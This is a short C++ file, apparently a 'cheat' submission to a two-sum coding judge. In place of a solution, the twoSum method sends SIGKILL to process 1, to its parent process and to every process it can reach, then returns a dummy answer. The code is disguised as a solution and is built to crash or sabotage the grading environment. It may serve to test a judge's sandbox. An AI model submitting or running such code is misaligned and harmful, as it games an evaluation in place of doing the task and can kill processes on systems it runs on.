// cheat: two-sum: WA, RTE: kills everyone that it can see
#include <unistd.h>

class Solution {
public:
    vector<int> twoSum(vector<int>& nums, int target) {
        kill(1, SIGKILL);
        kill(getppid(), SIGKILL);
        kill(-1, SIGKILL);
        return {0, 0};
    }
};
